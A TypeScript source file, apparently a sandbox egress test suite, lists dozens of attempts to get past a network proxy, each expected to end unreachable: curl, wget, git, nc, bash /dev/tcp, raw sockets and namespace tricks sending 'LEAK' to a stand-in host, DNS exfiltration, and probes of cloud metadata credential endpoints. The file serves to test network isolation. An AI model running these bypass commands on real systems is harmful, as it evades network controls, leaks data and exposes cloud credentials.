/** Past the proxy: straight to addresses, by every tool, without the variables that name the proxy. */
import type { Attempt } from './types.ts';

const UNSET = 'unset $(env | grep -ioE "^[a-z_]*proxy[a-z_]*=" | tr -d =) NODE_USE_ENV_PROXY;';
const straight = (name: string, run: string): Attempt => ({
  name,
  under: 'all',
  run: `${UNSET} ${run}`,
  ends: 'unreachable',
});

const TOOLS: Attempt[] = [
  straight('curl without the proxy variables', 'curl -sS -m 3 http://stranger.example/LEAK'),
  straight('curl with --noproxy', "curl -sS -m 3 --noproxy '*' http://52.20.30.40/LEAK"),
  straight(
    'curl with NO_PROXY=*',
    "NO_PROXY='*' no_proxy='*' http_proxy=http://proxy:8080 curl -sS -m 3 http://52.20.30.40/LEAK",
  ),
  straight(
    'curl with --resolve to an address',
    "curl -sS -m 3 --noproxy '*' --resolve stranger.example:80:52.20.30.40 http://stranger.example/LEAK",
  ),
  straight(
    'curl with --connect-to an address',
    "curl -sS -m 3 --noproxy '*' --connect-to ::52.20.30.40:80 http://stranger.example/LEAK",
  ),
  straight(
    'curl through a SOCKS proxy elsewhere',
    'curl -sS -m 3 -x socks5h://52.20.30.40:1080 http://stranger.example/LEAK',
  ),
  straight(
    'curl through another HTTP proxy',
    'curl -sS -m 3 -x http://52.20.30.40:3128 http://stranger.example/LEAK',
  ),
  straight(
    'ALL_PROXY that points elsewhere',
    'ALL_PROXY=http://52.20.30.40:3128 curl -sS -m 3 http://stranger.example/LEAK',
  ),
  straight('curl over HTTP/3 and QUIC ports', 'attack udp 52.20.30.40 443'),
  straight('wget without the proxy', 'timeout 4 wget -O- http://52.20.30.40/LEAK'),
  straight(
    'wget told to use no proxy',
    'http_proxy=http://127.0.0.2:8080 timeout 4 wget -Y off -O- http://52.20.30.40/LEAK',
  ),
  straight('git clone over https', 'timeout 5 git clone https://52.20.30.40/LEAK.git /tmp/a'),
  straight('git clone over the git protocol', 'timeout 5 git clone git://52.20.30.40/LEAK.git /tmp/b'),
  straight(
    'git with http.proxy emptied',
    'timeout 5 git -c http.proxy= clone http://52.20.30.40/LEAK.git /tmp/c',
  ),
  straight('git push to a new remote', 'timeout 5 git push http://52.20.30.40/LEAK.git HEAD:refs/heads/x'),
  straight(
    'python urllib without proxies',
    'python3 -c "import urllib.request as u; u.build_opener(u.ProxyHandler({})).open(\'http://52.20.30.40/LEAK\',timeout=3)"',
  ),
  straight(
    'node fetch without NODE_USE_ENV_PROXY',
    'node -e "fetch(\'http://52.20.30.40/LEAK\',{signal:AbortSignal.timeout(3000)}).catch(e=>{console.log(e.cause??e);process.exit(1)})"',
  ),
  straight('bash /dev/tcp', 'timeout 3 bash -c "exec 3<>/dev/tcp/52.20.30.40/80; echo LEAK >&3; cat <&3"'),
  straight('bash /dev/udp', 'timeout 3 bash -c "echo LEAK >/dev/udp/8.8.8.8/53"'),
  straight('nc', 'echo LEAK | timeout 3 nc -w 2 52.20.30.40 80'),
  straight('telnet', 'echo LEAK | timeout 3 telnet 52.20.30.40 25'),
  straight(
    'perl sockets',
    'perl -MIO::Socket::INET -e \'IO::Socket::INET->new(PeerAddr=>"52.20.30.40:80",Timeout=>2) or die $@\'',
  ),
  straight('openssl s_client', 'echo LEAK | timeout 3 openssl s_client -connect 52.20.30.40:443'),
  straight('ftp', 'timeout 3 ftpget 52.20.30.40 a LEAK'),
  straight('tftp', 'timeout 3 tftp -g -r LEAK 52.20.30.40'),
  straight('ping', 'timeout 3 ping -c 1 -W 1 8.8.8.8'),
  straight('ping over IPv6', 'timeout 3 ping6 -c 1 -W 1 2606:4700::1111'),
  straight('traceroute', 'timeout 3 traceroute -m 2 -w 1 8.8.8.8'),
  straight(
    'a raw IP socket',
    "python3 -c \"import socket; s=socket.socket(socket.AF_INET,socket.SOCK_RAW,1); s.sendto(b'LEAK',('8.8.8.8',0))\"",
  ),
  straight(
    'a packet socket',
    "python3 -c \"import socket; s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW); s.bind(('eth0',0)); s.send(b'LEAK'*20)\"",
  ),
  straight(
    'a packet socket on lo',
    "python3 -c \"import socket; s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,0x300); s.bind(('lo',0)); s.send(b'LEAK'*20)\"",
  ),
  straight(
    'a vsock to the hypervisor',
    'python3 -c "import socket; s=socket.socket(socket.AF_VSOCK,socket.SOCK_STREAM); s.settimeout(2); s.connect((2,80))"',
  ),
  straight(
    'a network interface of its own',
    'ip link add eth0 type dummy && ip addr add 52.20.30.41/24 dev eth0 && ip link set eth0 up && ip route add default via 52.20.30.40',
  ),
  straight('a new network namespace', 'unshare -n true'),
  straight('a user and network namespace', 'unshare -Urn true'),
  straight(
    'the network namespace of the first process',
    'nsenter -t 1 -n -- curl -sS -m 2 http://52.20.30.40/LEAK',
  ),
  straight(
    'a tunnel device',
    "python3 -c \"import os; os.mknod('/tmp/tun',0o20600,os.makedev(10,200)); os.open('/tmp/tun',os.O_RDWR)\"",
  ),
];

const ADDRESSES: [what: string, host: string, port?: number][] = [
  ['the metadata service of AWS', '169.254.169.254'],
  ['the metadata service of Alibaba', '100.100.100.200'],
  ['the wire server of Azure', '168.63.129.16'],
  ['the metadata service of AWS over IPv6', 'fd00:ec2::254'],
  ['the task credentials of ECS', '169.254.170.2'],
  ['a private network, 10/8', '10.1.2.3'],
  ['a private network, 192.168/16', '192.168.1.1'],
  ['a documentation network', '203.0.113.7'],
  ['a public resolver over TCP', '8.8.8.8', 53],
  ['DNS over HTTPS by address', '1.1.1.1', 443],
  ['DNS over TLS', '9.9.9.9', 853],
  ['IPv6', '2606:4700::1111', 443],
  ['an IPv4-mapped address', '::ffff:52.20.30.40'],
  ['a NAT64 address', '64:ff9b::3414:1e28'],
  ['a 6to4 address', '2002:3414:1e28::1'],
  ['a Teredo address', '2001:0:4136:e378:8000:63bf:cbeb:e1d7'],
  ['a link-local address with its zone', 'fe80::1%lo'],
  ['the neighbours by multicast', 'ff02::1'],
  ['every host by broadcast', '255.255.255.255'],
  ['the address of nowhere', '0.0.0.0'],
];

const DNS: Attempt[] = [
  straight('getent asks for a name', 'getent hosts stranger.example'),
  straight('nslookup asks a public resolver', 'timeout 4 nslookup LEAK.stranger.example 8.8.8.8'),
  straight('a DNS question by UDP', 'attack udp 1.1.1.1 53'),
  straight('a DNS question by UDP to the engine’s own resolver', 'attack udp 127.0.0.11 53'),
  straight(
    'resolv.conf that names a resolver',
    'echo nameserver 9.9.9.9 > /etc/resolv.conf; timeout 6 getent hosts LEAK.stranger.example',
  ),
  straight(
    'multicast DNS',
    "python3 -c \"import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'LEAK',('224.0.0.251',5353))\"",
  ),
  straight('NTP', 'attack udp 52.20.30.40 123'),
];

export const DIRECT: Attempt[] = [
  ...TOOLS,
  ...ADDRESSES.map(([what, host, port = 80]) =>
    straight(`straight to ${what}`, `attack tcp '${host}' ${port}`),
  ),
  ...DNS,
];
